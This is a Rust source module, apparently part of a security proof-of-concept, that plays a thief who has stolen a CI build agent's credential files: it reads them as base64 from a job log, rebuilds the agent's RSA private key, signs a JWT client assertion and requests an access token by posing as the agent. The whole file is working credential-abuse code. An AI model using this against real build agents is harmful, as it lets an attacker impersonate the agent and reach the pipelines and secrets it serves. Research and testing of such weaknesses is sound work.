//! What a thief does who took an agent's key out of its container.

use anyhow::{Context, Result, ensure};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use serde_json::{Value, json};

use crate::Job;

/// An agent's `.credentials` and `.credentials_rsaparams`.
#[derive(Debug)]
pub struct StolenKey {
    client_id: String,
    token_url: String,
    key: Value,
}

/// What the token endpoint said.
#[derive(Debug)]
pub struct TokenAnswer {
    /// HTTP status.
    pub status: u16,
    /// Body.
    pub body: String,
}

impl StolenKey {
    /// Reads them out of the log of a job that printed them as base64.
    pub fn read(job: &Job) -> Result<Self> {
        let file = |name: &str| -> Result<Value> {
            let text = job.values(name).concat();
            ensure!(!text.is_empty(), "the job printed no `{name}`");
            Ok(serde_json::from_slice(&STANDARD.decode(text)?)?)
        };
        let credentials = file("credentials")?;
        let text = |name: &str| {
            let value =
                credentials["data"][name].as_str().with_context(|| format!("`.credentials` has `{name}`"));
            value.map(ToOwned::to_owned)
        };
        Ok(Self { client_id: text("clientId")?, token_url: text("authorizationUrl")?, key: file("key")? })
    }

    /// Asks for an access token as the agent would.
    pub async fn token(&self) -> Result<TokenAnswer> {
        let now = std::time::UNIX_EPOCH.elapsed()?.as_secs();
        let claims = json!({
            "iss": self.client_id, "sub": self.client_id, "aud": self.token_url,
            "jti": crate::random_word(24), "nbf": now - 5, "exp": now + 290,
        });
        let assertion = jsonwebtoken::encode(&Header::new(Algorithm::RS256), &claims, &self.encoding()?)?;
        let form = [
            ("grant_type", "client_credentials"),
            ("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"),
            ("client_assertion", &assertion),
        ];
        let client = reqwest::Client::builder().no_proxy().build()?;
        let answer = client.post(&self.token_url).form(&form).send().await?;
        Ok(TokenAnswer { status: answer.status().as_u16(), body: answer.text().await? })
    }

    /// The key as PKCS#1 (RFC 8017, A.1.2): a sequence of nine integers.
    fn encoding(&self) -> Result<EncodingKey> {
        let mut integers = integer(&[0]);
        for name in ["modulus", "exponent", "d", "p", "q", "dp", "dq", "inverseQ"] {
            let text = self.key[name].as_str().with_context(|| format!("the key has `{name}`"))?;
            integers.extend(integer(&STANDARD.decode(text)?));
        }
        Ok(EncodingKey::from_rsa_der(&[[&[0x30][..], &length(integers.len())].concat(), integers].concat()))
    }
}

/// A DER integer: without leading zeros, but never negative.
fn integer(bytes: &[u8]) -> Vec<u8> {
    let zeros = bytes.iter().take_while(|byte| **byte == 0).count().min(bytes.len() - 1);
    let mut body = bytes[zeros..].to_vec();
    if body[0] >= 0x80 {
        body.insert(0, 0);
    }
    [[&[0x02][..], &length(body.len())].concat(), body].concat()
}

fn length(of: usize) -> Vec<u8> {
    match u8::try_from(of) {
        Ok(short) if short < 0x80 => vec![short],
        _ => {
            let bytes: Vec<u8> = of.to_be_bytes().into_iter().skip_while(|byte| *byte == 0).collect();
            [vec![0x80 | u8::try_from(bytes.len()).unwrap_or(8)], bytes].concat()
        }
    }
}
